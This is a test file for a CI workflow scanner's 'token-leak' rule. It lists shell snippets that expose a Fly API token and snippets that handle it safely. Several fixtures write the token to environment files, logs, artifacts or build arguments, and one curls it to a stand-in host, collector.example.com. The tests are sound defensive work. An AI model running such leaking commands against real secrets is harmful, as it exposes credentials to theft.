// token-leak: where a run: script lets the Fly token out, and the safe patterns it leaves alone.
import type { Finding } from '../../src/rules/types.js';
import { columnOf, lineOf, scan, workflow } from './support.js';

function runStep(script: string, env = 'FLY_API_TOKEN: ${{ secrets.FLY_API_TOKEN }}'): string {
  const body = script
    .split('\n')
    .map(line => `          ${line}`)
    .join('\n');
  return `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    environment: prod
    steps:
      - env:
          ${env}
        run: |
${body}
      - uses: actions/upload-artifact@v4
        with:
          path: out/
`;
}

function leaks(text: string): Finding[] {
  return scan(workflow(text)).filter(f => f.rule === 'token-leak');
}

describe('token-leak fires', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['echo to $GITHUB_ENV', 'echo "FLY_API_TOKEN=$FLY_API_TOKEN" >> "$GITHUB_ENV"', /GITHUB_ENV/],
    [
      'an expression written to $GITHUB_ENV',
      'echo "T=${{ secrets.FLY_API_TOKEN }}" >> $GITHUB_ENV',
      /GITHUB_ENV/
    ],
    [
      'printf to $GITHUB_OUTPUT',
      'printf \'token=%s\\n\' "$FLY_API_TOKEN" >> $GITHUB_OUTPUT',
      /GITHUB_OUTPUT/
    ],
    [
      'echo to a file',
      'echo "$FLY_API_TOKEN" > out/token.txt',
      /file `out\/token.txt`.*uploads artifacts/
    ],
    ['echo to the log', 'echo "token is $FLY_API_TOKEN"', /prints the Fly token to the log/],
    ['a base64 copy in the log', 'echo -n "$FLY_API_TOKEN" | base64', /transformed copy/],
    ['tee into a file', 'echo "$FLY_API_TOKEN" | tee token.txt', /file `token.txt`/],
    ['a heredoc into a file', 'cat <<EOF > .env\nFLY_API_TOKEN=$FLY_API_TOKEN\nEOF', /file `.env`/],
    ['a job summary', 'echo "$FLY_API_TOKEN" >> $GITHUB_STEP_SUMMARY', /job summary/],
    [
      'a variable copied from the token',
      'TOKEN="$FLY_API_TOKEN"\necho "$TOKEN" > creds',
      /file `creds`/
    ],
    [
      'a newly minted token',
      'NEW=$(flyctl tokens create deploy -a web)\necho "token=$NEW" >> $GITHUB_OUTPUT',
      /GITHUB_OUTPUT/
    ],
    [
      'a docker build argument',
      'docker build --build-arg FLY_API_TOKEN=$FLY_API_TOKEN .',
      /build argument/
    ],
    [
      'curl to another host',
      'curl -H "Authorization: Bearer $FLY_API_TOKEN" https://collector.example.com/x',
      /collector\.example\.com/
    ],
    ['set -x', 'set -x\nflyctl deploy -t "$FLY_API_TOKEN"', /set -x/],
    [
      'a re-encoded copy captured by $( ) and written out',
      'echo "b64=$(echo -n "$FLY_API_TOKEN" | base64)" >> $GITHUB_OUTPUT',
      /GITHUB_OUTPUT/
    ]
  ];

  test.each(cases)('%s', (_name, script, what) => {
    const text = runStep(script);
    const found = leaks(text);
    expect(found.map(f => f.severity)).toEqual(['high']);
    expect(found[0]?.message).toMatch(what);
  });

  test('points at the text that carries the token', () => {
    const text = runStep('flyctl status\necho "FLY_API_TOKEN=$FLY_API_TOKEN" >> "$GITHUB_ENV"');
    const [finding] = leaks(text);
    expect(finding?.location?.line).toBe(lineOf(text, '>> "$GITHUB_ENV"'));
    expect(finding?.location?.column).toBe(columnOf(text, '$FLY_API_TOKEN"'));
  });

  test('a step env variable named anything that holds the token', () => {
    const text = runStep(
      'echo "$DEPLOY_CREDS" > creds.txt',
      'DEPLOY_CREDS: ${{ secrets.FLY_API_TOKEN }}'
    );
    expect(leaks(text)).toHaveLength(1);
  });

  test('shell: bash -x traces every command holding the token', () => {
    const text = `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    environment: prod
    steps:
      - run: flyctl deploy --access-token \${{ secrets.FLY_API_TOKEN }}
        shell: bash -x {0}
`;
    expect(leaks(text)[0]?.message).toMatch(/set -x/);
  });
});

describe('token-leak stays silent', () => {
  const safe: Array<[string, string]> = [
    ['the token in env only', 'flyctl deploy --remote-only'],
    [
      'piped into a consumer',
      'echo "$FLY_API_TOKEN" | docker login registry.fly.io -u x --password-stdin'
    ],
    [
      'an existence check',
      '[ -n "$FLY_API_TOKEN" ] || { echo "::error::FLY_API_TOKEN is not set"; exit 1; }'
    ],
    ['a length', 'echo "${#FLY_API_TOKEN} characters"'],
    ['a mask registration', 'echo "::add-mask::$FLY_API_TOKEN"'],
    [
      'curl to Fly’s API',
      'curl -H "Authorization: Bearer $FLY_API_TOKEN" https://api.machines.dev/v1/apps'
    ],
    ['other variables to $GITHUB_ENV', 'echo "APP=web" >> $GITHUB_ENV'],
    ['redirects to /dev/null', 'echo "$FLY_API_TOKEN" > /dev/null'],
    ['set -x turned off before', 'set -x\nset +x\nflyctl deploy -t "$FLY_API_TOKEN"'],
    ['a non-Fly secret', 'echo "$OTHER" > file.txt'],
    [
      'a re-encoded copy handed to a consumer',
      'B=$(printf %s "$FLY_API_TOKEN" | base64)\ncurl -H "X-Token: $B" https://api.fly.io/x'
    ]
  ];

  test.each(safe)('%s', (_name, script) => {
    expect(leaks(runStep(script))).toEqual([]);
  });
});

describe('token-leak in composite actions', () => {
  test('follows Fly inputs and FLY_API_TOKEN in an action’s steps', () => {
    const action = `inputs:
  fly-token:
    required: true
runs:
  using: composite
  steps:
    - run: echo "\${{ inputs.fly-token }}" > ~/.fly/token
      shell: bash
    - run: echo "FLY_ACCESS_TOKEN=$FLY_ACCESS_TOKEN" >> $GITHUB_ENV
      shell: bash
`;
    const found = scan({ 'deploy/action.yml': action }).filter(f => f.rule === 'token-leak');
    expect(found.map(f => `${f.location?.file}:${f.location?.line}`)).toEqual([
      'deploy/action.yml:7',
      'deploy/action.yml:9'
    ]);
  });
});
